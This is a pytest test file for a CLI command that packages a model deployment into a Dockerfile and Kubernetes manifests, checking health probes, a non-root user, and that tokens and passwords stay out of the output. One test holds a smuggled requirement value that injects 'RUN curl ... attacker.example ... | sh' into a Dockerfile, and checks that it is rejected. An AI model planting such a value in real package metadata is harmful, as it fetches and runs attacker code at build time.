"""``keel deploy package``: the Dockerfile and Kubernetes manifests, read back by parsing, as a user runs it."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from keel.testing.cli import keel_cmd

COMMAND = ["keel", "serve", "churn", "--host", "0.0.0.0", "--port", "8080"]


def dockerfile(path: Path) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) per instruction: comments dropped, continuation lines joined."""
    out: list[tuple[str, str]] = []
    pending = ""
    for line in path.read_text().splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        pending += line.rstrip()
        if pending.endswith("\\"):
            pending = pending[:-1] + " "
            continue
        instruction, _, args = pending.strip().partition(" ")
        out.append((instruction.upper(), args.strip()))
        pending = ""
    return out


def one(instructions: list[tuple[str, str]], name: str) -> str:
    found = [args for ins, args in instructions if ins == name]
    assert len(found) == 1, (name, found)
    return found[0]


def kinds(folder: Path) -> dict[str, dict[str, Any]]:
    docs = [d for d in yaml.safe_load_all((folder / "kubernetes.yaml").read_text()) if d is not None]
    assert [d["kind"] for d in docs] == ["ConfigMap", "Deployment", "Service"]
    return {d["kind"]: d for d in docs}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder whose store has deployment churn (a registered scikit-learn model) and a keel.toml holding a token."""
    from sklearn.linear_model import LogisticRegression

    import keel.registry as registry
    from keel.context import Context

    ctx = Context(f"sqlite:///{tmp_path / '.keel' / 'keel.db'}", str(tmp_path / ".keel" / "artifacts"))
    X = [[0.0, 1.0], [1.0, 0.0], [0.5, 0.4], [0.9, 0.1]]
    registry.register(LogisticRegression().fit(X, [0, 1, 0, 1]), "churn", ctx=ctx)
    ctx.close()
    (tmp_path / "keel.toml").write_text('[keel]\ntoken = "s3cret-token-xyz"\nprediction_log = "kafka://broker:9092/preds"\n')
    done = keel_cmd(tmp_path, "deploy", "create", "churn", "models:/churn/1")
    assert done.returncode == 0, done.stderr
    return tmp_path


def test_dockerfile_and_manifests_serve_the_deployment(home: Path) -> None:
    done = keel_cmd(home, "deploy", "package", "churn", "-o", "out", "--store", "https://keel.example:5000", "--replicas", "3")
    assert done.returncode == 0, done.stderr
    out = home / "out"

    steps = dockerfile(out / "Dockerfile")
    assert one(steps, "FROM") == "python:3.11-slim"
    assert json.loads(one(steps, "CMD")) == COMMAND
    assert one(steps, "EXPOSE") == "8080"
    user = one(steps, "USER")
    assert user.split(":")[0] not in ("root", "0")
    assert [ins for ins, _ in steps].index("USER") > max(i for i, (ins, _) in enumerate(steps) if ins == "RUN")
    health = one(steps, "HEALTHCHECK")
    assert "http://127.0.0.1:8080/v2/health/live" in health and "--interval=" in health
    installs = [shlex.split(args) for ins, args in steps if ins == "RUN" and "pip install" in args]
    assert len(installs) == 1
    words = installs[0]
    assert "/tmp/wheels/keel-0.1.0-py3-none-any.whl[registry,onnx,postgres,s3,kafka]" in words
    assert any(w.startswith("scikit-learn==") for w in words)  # the registered model's own requirements, pinned
    assert "keel" not in words and not any(w.startswith("keel==") for w in words)  # never by name: PyPI's keel is another project

    docs = kinds(out)
    config, deployment, service = docs["ConfigMap"], docs["Deployment"], docs["Service"]
    assert config["data"] == {
        "KEEL_STORE": "https://keel.example:5000",
        "KEEL_ARTIFACTS": "",
        "KEEL_PREDICTION_LOG": "kafka://broker:9092/preds",
    }
    spec = deployment["spec"]
    assert spec["replicas"] == 3
    pod = spec["template"]
    (container,) = pod["spec"]["containers"]
    assert container["image"] == "keel-churn:0.1.0"
    assert container["ports"] == [{"name": "http", "containerPort": 8080, "protocol": "TCP"}]
    assert container["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": "http"}
    assert container["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": "http"}
    assert container["envFrom"] == [{"configMapRef": {"name": config["metadata"]["name"]}}]
    token = next(e for e in container["env"] if e["name"] == "KEEL_TOKEN")
    assert token["valueFrom"]["secretKeyRef"]["key"] == "token" and "value" not in token
    assert set(container["resources"]) == {"requests", "limits"}
    assert {"cpu", "memory"} <= set(container["resources"]["requests"]) and {"cpu", "memory"} <= set(
        container["resources"]["limits"]
    )
    assert pod["spec"]["terminationGracePeriodSeconds"] > 30
    # the Service and the Deployment select the pods the template labels
    labels = pod["metadata"]["labels"]
    assert spec["selector"]["matchLabels"].items() <= labels.items() and service["spec"]["selector"].items() <= labels.items()
    assert service["spec"]["ports"] == [{"name": "http", "port": 8080, "targetPort": "http", "protocol": "TCP"}]

    written = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert written == {"Dockerfile", "kubernetes.yaml", "README.txt", "wheels/README.txt", ".keel-package.json"}
    for path in out.rglob("*"):
        if path.is_file():
            assert "s3cret-token-xyz" not in path.read_text()
    readme = (out / "README.txt").read_text()
    assert "docker build -t keel-churn:0.1.0 ." in readme and "kubectl apply -f kubernetes.yaml" in readme
    assert "kubectl create secret generic keel-churn-secret --from-literal=token=" in readme


def test_unknown_deployment_is_one_line_and_exit_2(home: Path) -> None:
    done = keel_cmd(home, "deploy", "package", "nope", "-o", "out")
    assert done.returncode == 2 and done.stderr.strip() == "keel: error: deployment 'nope' does not exist"
    assert not (home / "out").exists()


def test_files_keel_did_not_write_are_kept_unless_force(home: Path) -> None:
    out = home / "out"
    out.mkdir()
    (out / "kubernetes.yaml").write_text("mine\n")
    done = keel_cmd(home, "deploy", "package", "churn", "-o", "out")
    assert done.returncode == 2 and "kubernetes.yaml" in done.stderr and "--force" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert (out / "kubernetes.yaml").read_text() == "mine\n" and not (out / "Dockerfile").exists()  # nothing written
    assert keel_cmd(home, "deploy", "package", "churn", "-o", "out", "--force").returncode == 0
    assert "kind: Deployment" in (out / "kubernetes.yaml").read_text()

    # keel's own files, unchanged, are replaced; once edited, they are the user's
    assert keel_cmd(home, "deploy", "package", "churn", "-o", "out", "--replicas", "4").returncode == 0
    assert kinds(out)["Deployment"]["spec"]["replicas"] == 4
    (out / "Dockerfile").write_text((out / "Dockerfile").read_text() + "# my change\n")
    done = keel_cmd(home, "deploy", "package", "churn", "-o", "out")
    assert done.returncode == 2 and "Dockerfile" in done.stderr
    assert (out / "Dockerfile").read_text().endswith("# my change\n")
    (out / "notes.md").write_text("other files are left alone")
    assert keel_cmd(home, "deploy", "package", "churn", "-o", "out", "--force").returncode == 0
    assert (out / "notes.md").read_text() == "other files are left alone"


def test_passwords_stay_out_and_a_wheel_is_copied(home: Path) -> None:
    wheel = home / "keel-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK wheel bytes")
    done = keel_cmd(
        home,
        "deploy",
        "package",
        "churn",
        "-o",
        "out",
        "--store",
        "postgresql://keel:hunter2@db:5432/keel",
        "--wheel",
        str(wheel),
    )
    assert done.returncode == 0, done.stderr
    assert "password was left out" in done.stderr
    assert kinds(home / "out")["ConfigMap"]["data"]["KEEL_STORE"] == "postgresql://keel@db:5432/keel"
    assert "hunter2" not in (home / "out" / "kubernetes.yaml").read_text()
    assert (home / "out" / "wheels" / wheel.name).read_bytes() == b"PK wheel bytes"
    bad = keel_cmd(home, "deploy", "package", "churn", "-o", "out2", "--wheel", str(home / "keel.toml"))
    assert bad.returncode == 2 and "--wheel" in bad.stderr and not (home / "out2").exists()
    local = keel_cmd(home, "deploy", "package", "churn", "-o", "out3")
    assert local.returncode == 0 and "KEEL_STORE sqlite:///" in local.stderr and "cannot reach" in local.stderr


def test_a_requirement_cannot_carry_a_dockerfile_line(tmp_path: Path) -> None:
    from keel.context import Context
    from keel.core.errors import InvalidArgument

    ctx = Context(f"sqlite:///{tmp_path / 'keel.db'}", str(tmp_path / "artifacts"))
    injected = "scikit-learn==1.5.0\nRUN curl -s http://attacker.example/x | sh\n#"
    with pytest.raises(InvalidArgument, match="requirements"):
        ctx.store.models.create_version(
            "evil", flavor="sklearn", artifact_sha256="a" * 64, size=1, signature={}, requirements=[injected]
        )
    ctx.close()


def test_a_folder_where_a_file_goes_is_refused_before_anything_is_written(home: Path) -> None:
    out = home / "out"
    (out / "wheels" / "README.txt").mkdir(parents=True)
    done = keel_cmd(home, "deploy", "package", "churn", "-o", str(out))
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1 and "not a folder" in done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["wheels"]  # nothing written
    (out / "wheels" / "README.txt").rmdir()
    again = keel_cmd(home, "deploy", "package", "churn", "-o", str(out))
    assert again.returncode == 0, again.stderr  # and a later run is not refused by a half-written first one
